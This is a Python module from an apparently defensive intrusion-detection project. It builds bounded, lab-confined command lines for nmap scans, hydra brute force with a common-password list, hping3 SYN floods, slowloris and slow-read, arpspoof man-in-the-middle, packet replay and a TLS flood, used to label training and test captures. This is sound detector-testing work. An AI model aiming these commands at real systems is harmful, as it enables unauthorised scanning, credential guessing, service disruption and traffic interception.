"""The lab's attacks with real Debian tools: each one an argv built here (pure), aimed only
at lab hosts (:func:`~tinyward.lab.testbed.plan.check_target` runs before any argv is
made) and bounded in count and time (a count or duration in the argv, and a timeout the
runner enforces on top).

An attack *class* (the label in the captures) runs one or more steps at once, e.g. the
SYN scan of the device from the LAN attacker and of the fleet from the upstream one.
"""

from __future__ import annotations

import shutil
import sys
from dataclasses import dataclass
from pathlib import Path

from tinyward.lab.testbed.plan import LabPlan, check_target

__all__ = [
    "ATTACK_CLASSES",
    "PROFILES",
    "TOOLS",
    "Profile",
    "Step",
    "attack_steps",
    "missing_tools",
]

#: Debian package of each tool (scripts/install-system-deps.sh installs them).
TOOLS = {"nmap": "nmap", "hydra": "hydra", "hping3": "hping3", "slowhttptest": "slowhttptest",
         "arpspoof": "dsniff", "tcpreplay": "tcpreplay", "tcprewrite": "tcpreplay",
         "tcpdump": "tcpdump", "dnsmasq": "dnsmasq-base"}

ATTACK_CLASSES = ("nmap-syn", "nmap-connect", "nmap-version", "hydra", "syn-flood",
                  "slowloris", "slowread", "arp-mitm", "replay", "tls-flood")

FLEET_PORT = 8443
ADMIN_PORT = 8444
ROUTER_LOGIN_PORT = 8080


@dataclass(frozen=True)
class Profile:
    """How long and how hard: the lab run's bounds."""

    name: str
    train: float  # seconds of device-1's traffic the on-device detector is trained on
    benign: float  # seconds of benign traffic before the first attack (false alarms)
    gap: float  # benign seconds between attacks (a detection may arrive in them)
    attack: float  # longest time one attack class may run
    packets: int  # hping3 SYN count per target
    pps: int  # hping3 / tcpreplay packets per second
    connections: int  # slowhttptest and TLS flood connections
    words: int  # hydra's wordlist length
    ports: str  # nmap port range


#: ``quick`` is for wiring only (tests: every part runs, captures are labelled): 12 s of
#: training makes a model whose threshold most benign frames exceed, 10 s of benign
#: traffic is no false-alarm figure and 1 s gaps are shorter than the incident rate
#: limit. The figures come from ``default``.
PROFILES = {
    "quick": Profile("quick", train=12, benign=10, gap=1.0, attack=3, packets=600, pps=300,
                     connections=60, words=40, ports="1-200,8443,8444"),
    # benign: 5 minutes by default (`lab run --benign-minutes N`); gap: 20 s, longer than
    # one incident token refill (10 s) plus three report intervals, so the previous
    # attack's last incidents have reached the fleet before the next attack starts.
    # train: 300 s (`lab run --train-seconds S`), a time budget, not the calibration rule:
    # at 0.1 % FPR the threshold code wants 10,000 calibration scores, which this traffic
    # gives in about 100 minutes (lab run prints the model's warning and that estimate).
    "default": Profile("default", train=300, benign=300, gap=20, attack=20, packets=4000, pps=500,
                       connections=200, words=300, ports="1-1024,8443,8444"),
}


@dataclass(frozen=True)
class Step:
    """One tool run: from the ``vantage`` host's namespace at ``target``; ``timeout`` is
    enforced by the runner (TERM, then KILL); ``stop_after`` ends a tool that runs until
    stopped (arpspoof) with TERM, which is how it restores the ARP caches it poisoned."""

    attack: str
    vantage: str
    target: str
    argv: tuple[str, ...]
    timeout: float
    stop_after: float | None = None


def _nmap(kind: str, target: str, ports: str, limit: float) -> tuple[str, ...]:
    flag = {"nmap-syn": "-sS", "nmap-connect": "-sT", "nmap-version": "-sV"}[kind]
    extra = ("--version-light",) if kind == "nmap-version" else ()
    return ("nmap", flag, *extra, "-Pn", "-n", "-T4", "--max-retries", "1",
            "--host-timeout", f"{int(limit)}s", "-p", ports, target)


def attack_steps(plan: LabPlan, profile: Profile, attack: str, workdir: Path,
                 device: str = "device-1", dashboard: bool = False) -> list[Step]:
    """The steps of ``attack`` (one of :data:`ATTACK_CLASSES`) against ``device`` and the
    fleet (``dashboard``: the fleet's admin listener has a dashboard login, hydra tries
    it too). Raises :class:`~tinyward.lab.testbed.plan.OutsideLab` for a target outside."""
    dev = check_target(plan, plan.host(device).address)
    fleet = check_target(plan, plan.host("fleet").address)
    router = check_target(plan, plan.host(device).gateway)
    lan, up = "attacker-lan", "attacker-up"
    t = profile.attack
    py = (sys.executable, "-m", "tinyward.lab.testbed.services")
    if attack in ("nmap-syn", "nmap-connect"):
        return [Step(attack, lan, dev, _nmap(attack, dev, profile.ports, t), t + 5),
                Step(attack, up, fleet, _nmap(attack, fleet, profile.ports, t), t + 5)]
    if attack == "nmap-version":
        # Version probes wait for answers port by port: a short list keeps them bounded.
        # nmap overruns its --host-timeout on TLS ports: the runner stops it 1 s after.
        return [Step(attack, lan, dev, _nmap(attack, dev, "22,53,80,443,8080,8443", t), t + 1),
                Step(attack, up, fleet, _nmap(attack, fleet, f"53,{FLEET_PORT},{ADMIN_PORT}",
                                              t), t + 1)]
    if attack == "hydra":
        steps = [Step(attack, lan, router, (
            "hydra", "-l", "admin", "-P", str(workdir / "words.txt"), "-t", "4", "-f", "-I",
            "-w", "3", "-s", str(ROUTER_LOGIN_PORT), router, "http-get", "/"), t + 5)]
        if dashboard:
            # The dashboard's login form over TLS, with the Origin a browser sends; hydra
            # cannot carry the form's CSRF token. Success only on the login's redirect (303;
            # hydra 9.4 wants its header option before the condition).
            steps.append(Step(attack, up, fleet, (
                "hydra", "-l", "admin", "-P", str(workdir / "words.txt"), "-t", "4", "-f",
                "-I", "-w", "3", "-s", str(ADMIN_PORT), "-S", fleet, "https-post-form",
                f"/dashboard/login:csrf=none&password=^PASS^:"
                f"H=Origin\\: https\\://{fleet}\\:{ADMIN_PORT}:S=303"), t + 5))
        return steps
    if attack == "syn-flood":
        interval = f"u{max(1, 1_000_000 // profile.pps)}"
        return [Step(attack, lan, dev, ("hping3", "-q", "-S", "-p", "443", "-i", interval,
                                        "-c", str(profile.packets), dev), t + 5),
                Step(attack, up, fleet, ("hping3", "-q", "-S", "-p", str(FLEET_PORT), "-i",
                                         interval, "-c", str(profile.packets), fleet), t + 5)]
    if attack in ("slowloris", "slowread"):
        # Both listeners: the device port (TLS asks for a device certificate first) and
        # the admin port (TLS without client certificates, then HTTP).
        mode = (("-H", "-i", "2", "-x", "24") if attack == "slowloris" else
                ("-X", "-w", "512", "-y", "1024", "-n", "2", "-z", "32"))
        return [Step(attack, up, fleet, (
            "slowhttptest", *mode, "-u", f"https://{fleet}:{port}/v1/health",
            "-c", str(profile.connections), "-r", "50", "-l", str(int(t)), "-p", "3",
            "-g", "-o", str(workdir / f"{attack}-{port}")), t + 10)
            for port in (FLEET_PORT, ADMIN_PORT)]
    if attack == "arp-mitm":
        # Both directions poisoned (-r); the attacker forwards, so the device's link
        # keeps working through it: a man in the middle of pinned TLS.
        # On TERM arpspoof re-arps both ways for 5 s, then may hang on exit: KILL after 6.
        return [Step(attack, lan, dev, ("arpspoof", "-i", "eth0", "-t", dev, "-r", router),
                     t + 6, stop_after=t)]
    if attack == "replay":
        return [Step(attack, lan, dev, (
            "tcpreplay", "-q", "-i", "eth0", "--pps", str(profile.pps), "--loop", "100",
            "--limit", str(min(profile.packets, int(profile.pps * t))),
            str(workdir / "replay.pcap")),
            t + 5)]
    if attack == "tls-flood":
        return [Step(attack, up, fleet, (*py, "tls-flood", "--target", fleet, "--port",
                                         str(FLEET_PORT), "--count",
                                         str(profile.connections * 3), "--workers", "16"),
                     t + 10)]
    raise ValueError(f"unknown attack {attack!r}; one of {', '.join(ATTACK_CLASSES)}")


def missing_tools(tools: tuple[str, ...] | None = None) -> list[str]:
    """Tools of ``tools`` (default: all the lab runs) not on PATH, as 'tool (package)'."""
    return [f"{tool} ({TOOLS[tool]})" for tool in (tools or tuple(TOOLS))
            if shutil.which(tool) is None]


def wordlist(words: int, password: str) -> list[str]:
    """hydra's list: common passwords, then numbered guesses, the router's password near
    the end (so the brute force runs through most of the list before it finds it)."""
    common = ["admin", "password", "123456", "12345678", "root", "toor", "letmein", "qwerty",
              "changeme", "default", "guest", "user", "1234", "admin123", "passw0rd",
              "welcome", "router", "sensor", "tinyward", "iloveyou"]
    guesses = common + [f"guess{i:04d}" for i in range(max(0, words - len(common) - 1))]
    guesses = guesses[: max(1, words - 1)]
    guesses.insert(len(guesses) - max(1, len(guesses) // 10), password)
    return guesses
